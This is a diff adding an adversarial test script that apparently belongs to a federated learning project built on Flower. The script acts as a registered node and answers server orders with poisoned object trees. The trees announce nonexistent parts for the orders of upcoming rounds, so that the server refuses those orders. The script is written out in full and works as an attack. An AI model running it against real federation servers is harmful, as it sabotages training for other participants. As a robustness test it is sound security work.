@@ -1,15 +1,87 @@
-"""What a registered node could send, made by hand."""
+"""What a registered node could send, made by hand.
 
+    python -m tests.federation.attacks KEY ADDRESS CA SECONDS
+
+joins with the node's private key, offers client 1, and answers each order with a reply that announces the objects of
+the orders to come with parts that do not exist, in order to make Flower refuse them.
+"""
+
+import json
+import os
+import sys
+import time
+from pathlib import Path
+
+from cryptography.hazmat.primitives import serialization
+from flwr.app import ConfigRecord, RecordDict
+from flwr.app import Message as AppMessage
 from flwr.proto.fleet_pb2 import PushMessagesRequest
 from flwr.proto.message_pb2 import Message, Metadata, ObjectTree
 from flwr.proto.node_pb2 import Node
 
 
-def reply_of(node, objects, sender=None):
+def reply_of(node, objects, sender=None, to=""):
     """A reply with many objects, of the node with this id, as bytes."""
     tree = ObjectTree(object_id="0" * 64)
     tree.children.extend(ObjectTree(object_id=f"{number:064x}") for number in range(objects))
-    message = Message(metadata=Metadata(src_node_id=node, run_id=1, message_id="0" * 64))
+    message = Message(metadata=Metadata(src_node_id=node, run_id=1, message_id="0" * 64, reply_to_message_id=to))
     request = PushMessagesRequest(node=Node(node_id=sender or node), messages_list=[message])
     request.message_object_trees.append(tree)
     return request.SerializeToString()
+
+
+def poisoned(root, settings, order):
+    """The objects of a reply: records of the next orders to clients 0 and 1, each with a part that does not exist."""
+    tree = ObjectTree(object_id=root)
+    for number in range(order["round"] + 1, order["round"] + 4):
+        for client in (0, 1):
+            for since in range(-1, number):
+                told = {"round": number, "attempt": 0, "clients": [client], "steps": order["steps"], "since": [since]}
+                record = ConfigRecord({"settings": settings, "order": json.dumps(told)})
+                tree.children.add(object_id=record.object_id).children.add(object_id=os.urandom(32).hex())
+    return tree
+
+
+def main(key, address, ca, seconds):
+    from flwr.supercore.inflatable.inflatable_object import get_all_nested_objects, get_object_tree
+    from flwr.supercore.inflatable.inflatable_utils import pull_and_inflate_object_from_tree, push_objects
+    from flwr.supernode.fleet_http_connection import http_request_response
+
+    private, end = serialization.load_ssh_private_key(Path(key).read_bytes(), None), time.monotonic() + float(seconds)
+    with http_request_response(address, False, Path(ca).read_bytes(), (private, private.public_key())) as connection:
+        _, receive, send, _, _, pull, push, confirm = connection
+        print("connected", flush=True)
+        while time.monotonic() < end:
+            if (got := receive()) is None:
+                time.sleep(0.2)
+                continue
+            about, tree = got
+            run = about.metadata.run_id
+            message = pull_and_inflate_object_from_tree(
+                tree,
+                lambda one, run=run: pull(run, one),
+                lambda one, run=run: confirm(run, one),
+                return_type=AppMessage,
+            )
+            message.metadata.__dict__["_message_id"] = tree.object_id
+            record = message.content.config_records["fedgbo"]
+            settings = json.loads(record["settings"])
+            answer = {"version": settings["version"], "clients": [1], "samples": [20], "model": settings["model"]}
+            reply = AppMessage(RecordDict({"fedgbo": ConfigRecord({"answer": json.dumps(answer)})}), reply_to=message)
+            reply.metadata.__dict__["_message_id"] = reply.object_id
+            if "order" in record:
+                order = json.loads(record["order"])
+                send(reply, poisoned(reply.object_id, record["settings"], order), 0.1)
+                print("poisoned after round", order["round"] + 1, flush=True)
+            else:
+                wanted, session = send(reply, get_object_tree(reply), 0.1)
+                objects = get_all_nested_objects(reply)
+                push_objects(
+                    objects,
+                    lambda one, content, run=run, session=session: push(run, session, one, content),
+                    object_ids_to_push=wanted,
+                )
+
+
+if __name__ == "__main__":
+    main(*sys.argv[1:])
